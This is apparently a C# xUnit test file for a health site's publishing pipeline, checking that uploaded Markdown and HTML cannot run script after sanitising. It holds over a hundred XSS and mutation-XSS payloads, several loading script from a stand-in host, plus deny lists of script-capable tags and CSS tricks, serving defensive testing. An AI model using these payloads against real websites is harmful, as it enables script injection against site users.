using AngleSharp.Dom;
using HealthFunctions.Publishing.Rendering;
using HealthFunctions.Publishing.Tests.Support;
using HealthFunctions.Publishing.Text;

namespace HealthFunctions.Publishing.Tests;

/// <summary>
/// Whatever an editor uploads, the stored HTML must not run script. Payloads are grouped by the
/// families of the OWASP XSS filter evasion cheat sheet, plus Markdown-specific and mutation (mXSS) vectors.
/// Each is checked as a browser would parse the stored HTML, and again after a serialise/parse round trip.
/// </summary>
public sealed class HtmlSafetyTests
{
    private static readonly HashSet<string> ForbiddenElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "select", "textarea",
        "base", "meta", "link", "style", "svg", "math", "template", "noscript", "video", "audio", "source", "isindex",
        "keygen", "marquee", "param", "xmp", "noembed", "plaintext", "portal", "body", "html", "head",
    };

    private static readonly HashSet<string> UrlAttributes = new(StringComparer.OrdinalIgnoreCase)
    {
        "href", "src", "cite", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset", "longdesc", "codebase", "dynsrc", "lowsrc",
    };

    public static TheoryData<string, string> HostilePayloads => new()
    {
        // Family: plain script injection
        { "script", "<script>alert(1)</script>" },
        { "script", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>" },
        { "script", "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>" },
        { "script", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>" },
        { "script", "<SCRIPT SRC=//xss.example/.j>" },
        { "script", "Inline <script>alert(1)</script> in a paragraph." },

        // Family: event handler attributes
        { "event handler", "<img src=x onerror=alert(1)>" },
        { "event handler", "<IMG SRC=# onmouseover=\"alert('xxs')\">" },
        { "event handler", "<img src=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>" },
        { "event handler", "<body onload=alert(1)>" },
        { "event handler", "<div onmouseover=\"alert(1)\">hover</div>" },
        { "event handler", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>" },
        { "event handler", "<a href=\"https://ok.example\" onfocus=alert(1) autofocus>ok</a>" },
        { "event handler", "<p>text <b onclick=alert(1)>bold</b></p>" },
        { "event handler", "<input type=\"checkbox\" onclick=\"alert(1)\">" },
        { "event handler", "<img src=x o&#110;error=alert(1)>" },

        // Family: javascript: and other script schemes in URL attributes
        { "script scheme", "<a href=\"javascript:alert(1)\">x</a>" },
        { "script scheme", "<IMG SRC=\"javascript:alert('XSS');\">" },
        { "script scheme", "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
        { "script scheme", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>" },
        { "script scheme", "<a href=\" javascript:alert(1)\">leading space</a>" },
        { "script scheme", "<a href=\"vbscript:msgbox(1)\">vb</a>" },
        { "script scheme", "<a href=\"livescript:alert(1)\">live</a>" },
        { "script scheme", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>" },
        { "script scheme", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "script scheme", "<blockquote cite=\"javascript:alert(1)\">q</blockquote>" },

        // Family: character-encoding tricks inside the scheme
        { "encoded scheme", "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>" },
        { "encoded scheme", "<a href=\"jav&#x0A;ascript:alert(1)\">newline</a>" },
        { "encoded scheme", "<a href=\"jav&#x0D;ascript:alert(1)\">return</a>" },
        { "encoded scheme", "<a href=\"jav\tascript:alert(1)\">raw tab</a>" },
        { "encoded scheme", "<a href=\"&#106;avascript:alert(1)\">decimal</a>" },
        { "encoded scheme", "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>" },
        { "encoded scheme", "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>" },
        { "encoded scheme", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>" },
        { "encoded scheme", "<a href=\"javascript&colon;alert(1)\">named colon</a>" },
        { "encoded scheme", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">" },
        { "encoded scheme", "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">hex</a>" },

        // Family: malformed and half-open markup
        { "malformed", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">" },
        { "malformed", "<IMG SRC=\"`<javascript:alert>`\"" },
        { "malformed", "<iframe src=https://xss.example/x.html <" },
        { "malformed", "<img src=x onerror=alert(1)//" },
        { "malformed", "<script\n>alert(1)</script\n>" },
        { "malformed", "<a href=\"javascript:alert(1)\"<b>unclosed</b>" },
        { "malformed", "<img/src=x/onerror=alert(1)>" },
        { "malformed", "<div\n  onmouseover\n  =\n  alert(1)>multi-line</div>" },

        // Family: comments, CDATA and conditional comments
        { "comment", "<!--<img src=\"--><img src=x onerror=alert(1)//\">" },
        { "comment", "<![CDATA[<img src=x onerror=alert(1)>]]>" },
        { "comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
        { "comment", "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>" },

        // Family: mutation XSS (parser differentials between sanitiser and browser)
        { "mXSS", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>" },
        { "mXSS", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">" },
        { "mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
        { "mXSS", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>" },
        { "mXSS", "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>" },
        { "mXSS", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>" },
        { "mXSS", "<textarea><img src=x onerror=alert(1)></textarea>" },
        { "mXSS", "<title><img src=x onerror=alert(1)></title>" },
        { "mXSS", "<xmp><img src=x onerror=alert(1)></xmp>" },
        { "mXSS", "<noembed><img src=x onerror=alert(1)></noembed>" },
        { "mXSS", "<template><img src=x onerror=alert(1)></template>" },

        // Family: SVG
        { "svg", "<svg onload=alert(1)>" },
        { "svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>" },
        { "svg", "<svg><script>alert(1)</script></svg>" },
        { "svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>" },
        { "svg", "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>" },
        { "svg", "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>" },
        { "svg", "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>" },

        // Family: MathML
        { "mathml", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">click</maction></math>" },
        { "mathml", "<math href=\"javascript:alert(1)\">CLICKME</math>" },
        { "mathml", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>" },

        // Family: frames, objects and embeds
        { "frame", "<iframe src=\"javascript:alert(1)\"></iframe>" },
        { "frame", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>" },
        { "frame", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>" },
        { "frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>" },
        { "frame", "<object data=\"javascript:alert(1)\"></object>" },
        { "frame", "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>" },
        { "frame", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">" },
        { "frame", "<applet code=\"XSS.class\"></applet>" },
        { "frame", "<portal src=\"https://xss.example\"></portal>" },

        // Family: forms and controls
        { "form", "<form action=\"javascript:alert(1)\"><input type=\"submit\"></form>" },
        { "form", "<button formaction=\"javascript:alert(1)\">b</button>" },
        { "form", "<isindex action=\"javascript:alert(1)\" type=\"image\">" },
        { "form", "<input type=\"image\" src=\"javascript:alert(1)\">" },
        { "form", "<input onfocus=alert(1) autofocus>" },
        { "form", "<input type=\"text\" value=\"phish\">" },
        { "form", "<select onfocus=alert(1) autofocus><option>x</option></select>" },
        { "form", "<keygen autofocus onfocus=alert(1)>" },

        // Family: style and CSS
        { "style", "<div style=\"background-image: url(javascript:alert('XSS'))\">bg</div>" },
        { "style", "<div style=\"width: expression(alert('XSS'));\">expr</div>" },
        { "style", "<p style=\"x:\\65 xpression(alert(1))\">escaped</p>" },
        { "style", "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">esc</DIV>" },
        { "style", "<STYLE>@import'https://xss.example/xss.css';</STYLE>" },
        { "style", "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>" },
        { "style", "<XSS STYLE=\"behavior: url(xss.htc);\">" },
        { "style", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">" },
        { "style", "<span style=\"text-align: center; background: url(javascript:alert(1))\">mixed</span>" },

        // Family: meta, base and link
        { "meta", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">" },
        { "meta", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">" },
        { "meta", "<BASE HREF=\"javascript:alert('XSS');//\">" },
        { "meta", "<base href=\"https://xss.example/\">" },
        { "meta", "<link rel=\"import\" href=\"https://xss.example/x.html\">" },

        // Family: HTML5 elements with their own events
        { "html5 event", "<details open ontoggle=alert(1)><summary>s</summary>x</details>" },
        { "html5 event", "<video><source onerror=\"alert(1)\"></video>" },
        { "html5 event", "<audio src=x onerror=alert(1)>" },
        { "html5 event", "<marquee onstart=alert(1)>m</marquee>" },
        { "html5 event", "<body onpageshow=alert(1)>" },
        { "html5 event", "<video poster=javascript:alert(1)//></video>" },

        // Family: Markdown syntax that produces links and images
        { "markdown", "[x](javascript:alert(1))" },
        { "markdown", "[x](JAVASCRIPT:alert(1))" },
        { "markdown", "[x](<javascript:alert(1)>)" },
        { "markdown", "[x](javascript:alert(1) \"title\")" },
        { "markdown", "[x](javascript&#58;alert(1))" },
        { "markdown", "[x](&#106;avascript:alert(1))" },
        { "markdown", "[x](vbscript:msgbox(1))" },
        { "markdown", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
        { "markdown", "![x](javascript:alert(1))" },
        { "markdown", "![x](https://ok.example/a.png\"onerror=\"alert(1))" },
        { "markdown", "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")" },
        { "markdown", "<javascript:alert(1)>" },
        { "markdown", "<vbscript:msgbox(1)>" },
        { "markdown", "[x][ref]\n\n[ref]: javascript:alert(1)" },
        { "markdown", "![x][img]\n\n[img]: javascript:alert(1)" },
        { "markdown", "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)" },
        { "markdown", "Footnote[^1].\n\n[^1]: <img src=x onerror=alert(1)>" },
        { "markdown", "| a |\n|---|\n| <img src=x onerror=alert(1)> |" },
        { "markdown", "## \"><img src=x onerror=alert(1)>\n\ntext" },
        { "markdown", "- [ ] <img src=x onerror=alert(1)>" },
        { "markdown", "```\"><script>alert(1)</script>\ncode\n```" },

        // Family: raw HTML spread over several blocks, so sanitised runs sit next to unsanitised Markdown output
        { "run boundaries", "<div title=\"\n\n[x](https://ok.example)\n\n\"><img src=x onerror=alert(1)>" },
        { "run boundaries", "<details>\n\n- item <script>alert(1)</script>\n\n</details>" },
        { "run boundaries", "<div>\n\n*a*\n\n<div>\n\n<img src=x onerror=alert(1)>" },
        { "run boundaries", "<!--\n\n[x](https://ok.example)\n\n--><img src=x onerror=alert(1)>" },
        { "run boundaries", "<textarea>\n\n[x](https://ok.example)\n\n</textarea><img src=x onerror=alert(1)>" },
        { "run boundaries", "<a href=\"https://ok.example\">\n\n[x](javascript:alert(1))\n\n</a>" },
        { "run boundaries", "<table><tr><td>\n\n**cell**\n\n<svg onload=alert(1)>\n\n</td></tr></table>" },
        { "run boundaries", "<p><sup>1</sup>\uE000\uE001</p>\n\ntext\n\n<sub>2</sub>\uE000<img src=x onerror=alert(1)>" },
    };

    [Theory]
    [MemberData(nameof(HostilePayloads))]
    public void Given_a_hostile_payload_When_rendered_Then_the_stored_html_cannot_run_script(string family, string payload)
    {
        var html = TestPosts.RenderBody(payload).Html;

        AssertInert(html, family);

        // A browser re-serialising and re-parsing the markup (innerHTML round trip) must not revive anything.
        AssertInert(Html.Body(html).InnerHtml, family + " (round trip)");
    }

    [Fact]
    public void Given_a_nul_character_inside_a_scheme_When_rendered_from_text_Then_no_script_link_remains()
    {
        // NUL bytes are refused in uploads; text handed straight to the renderer must still be safe.
        var post = TestPosts.Renderer.Render("nul.md", PostFile.Markdown(body: "<IMG SRC=java\0script:alert(\"XSS\")> [x](java\0script:alert(1))"));

        AssertInert(post.Html, "nul");
    }

    public static TheoryData<string, string> HarmlessHtml => new()
    {
        { "<details><summary>Dosage notes</summary>Taken with food.</details>", "details > summary" },
        { "Water is H<sub>2</sub>O and area is m<sup>2</sup>.", "sub" },
        { "Footnote-style<sup>1</sup> marker.", "sup" },
        { "An <abbr title=\"intravenous\">IV</abbr> line.", "abbr[title='intravenous']" },
        { "Press <kbd>Ctrl</kbd>+<kbd>P</kbd> to print.", "kbd" },
        { "<img src=\"https://images.example.org/heart.png\" alt=\"Heart diagram\" width=\"320\">", "img[src='https://images.example.org/heart.png'][alt='Heart diagram']" },
        { "![Pulse chart](https://images.example.org/pulse.png \"Resting pulse\")", "img[src='https://images.example.org/pulse.png'][title='Resting pulse']" },
        { "<table><thead><tr><th scope=\"col\">Drug</th></tr></thead><tbody><tr><td>Ketamine</td></tr></tbody></table>", "table > tbody > tr > td" },
        { "<a href=\"https://www.nhs.uk/\" title=\"NHS\">NHS</a>", "a[href='https://www.nhs.uk/']" },
        { "<a href=\"mailto:clinic@example.org\">Email the clinic</a>", "a[href='mailto:clinic@example.org']" },
        { "[Related post](/posts/sleep-hygiene-basics)", "a[href='/posts/sleep-hygiene-basics']" },
        { "[Jump down](#side-effects)", "a[href='#side-effects']" },
        { "<mark>Important:</mark> read the leaflet.", "mark" },
        { "<figure><img src=\"https://images.example.org/a.png\" alt=\"A\"><figcaption>Figure 1</figcaption></figure>", "figure > figcaption" },
        { "<time datetime=\"2024-05-01\">1 May</time>", "time[datetime='2024-05-01']" },
        { "<div style=\"text-align: center\">Centred</div>", "div[style]" },
        { "<dl><dt>BP</dt><dd>Blood pressure</dd></dl>", "dl > dd" },
        { "<s>old advice</s> <del>removed</del> <ins>added</ins>", "ins" },
        { "- [x] Book appointment\n- [ ] Fast from midnight", "li > input[type='checkbox'][disabled]" },
    };

    [Theory]
    [MemberData(nameof(HarmlessHtml))]
    public void Given_harmless_raw_html_When_rendered_Then_it_survives(string body, string selector)
    {
        var html = TestPosts.RenderBody(body).Html;

        Assert.NotNull(Html.Body(html).QuerySelector(selector));
        AssertInert(html, "harmless");
    }

    [Fact]
    public void Given_an_allowed_style_attribute_When_it_mixes_properties_Then_only_text_align_is_kept()
    {
        var html = TestPosts.RenderBody("<p style=\"text-align: right; color: red; position: fixed\">x</p>").Html;

        Assert.Equal("text-align: right", Html.Body(html).QuerySelector("p")!.GetAttribute("style"));
    }

    [Fact]
    public void Given_external_links_and_images_When_rendered_Then_links_get_noopener_and_images_load_lazily()
    {
        var body = Html.Body(TestPosts.RenderBody("[NHS](https://www.nhs.uk/) ![x](https://images.example.org/a.png)").Html);

        Assert.Equal("noopener noreferrer", body.QuerySelector("a")!.GetAttribute("rel"));
        Assert.Equal("lazy", body.QuerySelector("img")!.GetAttribute("loading"));
    }

    [Fact]
    public void The_policy_lists_do_not_allow_script_capable_tags_attributes_or_schemes()
    {
        // Guards the allow-lists themselves: a later edit adding one of these would need a very good reason.
        Assert.DoesNotContain(HtmlSafetyPolicy.Tags, tag => ForbiddenElements.Contains(tag));
        Assert.DoesNotContain(HtmlSafetyPolicy.Attributes, attribute => attribute.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute is "srcdoc" or "formaction" or "action");
        Assert.Equal(["http", "https", "mailto"], UrlSchemes.Allowed.Order(StringComparer.Ordinal));
    }

    private static void AssertInert(string html, string family)
    {
        foreach (var element in Html.Elements(html))
        {
            var name = element.LocalName;
            Assert.False(ForbiddenElements.Contains(name), $"[{family}] <{name}> survived in: {html}");
            if (name == "input")
            {
                Assert.True(
                    string.Equals(element.GetAttribute("type"), "checkbox", StringComparison.OrdinalIgnoreCase) && element.HasAttribute("disabled"),
                    $"[{family}] an input other than a disabled checkbox survived in: {html}");
            }

            foreach (var attribute in element.Attributes)
            {
                AssertAttributeInert(element, attribute, family, html);
            }
        }
    }

    private static void AssertAttributeInert(IElement element, IAttr attribute, string family, string html)
    {
        var name = attribute.Name;
        Assert.False(name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"[{family}] {name} on <{element.LocalName}> survived in: {html}");
        Assert.False(name is "srcdoc" or "formaction" or "action" or "http-equiv", $"[{family}] {name} survived in: {html}");

        if (UrlAttributes.Contains(name))
        {
            var scheme = SchemeOf(attribute.Value);
            Assert.True(scheme is null or "http" or "https" or "mailto", $"[{family}] {name}=\"{attribute.Value}\" uses scheme '{scheme}' in: {html}");
        }

        if (name == "style")
        {
            var style = attribute.Value.ToLowerInvariant();
            foreach (var bad in new[] { "expression", "url(", "javascript", "behavior", "binding", "@import", "\\" })
            {
                Assert.DoesNotContain(bad, style, StringComparison.Ordinal);
            }
        }
    }

    /// <summary>The scheme a browser would see: control characters and white space are ignored, as browsers do.</summary>
    private static string? SchemeOf(string url)
    {
        var cleaned = new string(url.Where(c => !char.IsControl(c) && !char.IsWhiteSpace(c)).ToArray()).ToLowerInvariant();
        var colon = cleaned.IndexOf(':');
        if (colon <= 0)
        {
            return null;
        }

        var candidate = cleaned[..colon];
        return candidate.All(c => char.IsAsciiLetterOrDigit(c) || c is '+' or '-' or '.') && char.IsAsciiLetter(candidate[0])
            && cleaned.IndexOfAny(['/', '?', '#']) is var stop && (stop < 0 || stop > colon)
            ? candidate
            : null;
    }
}
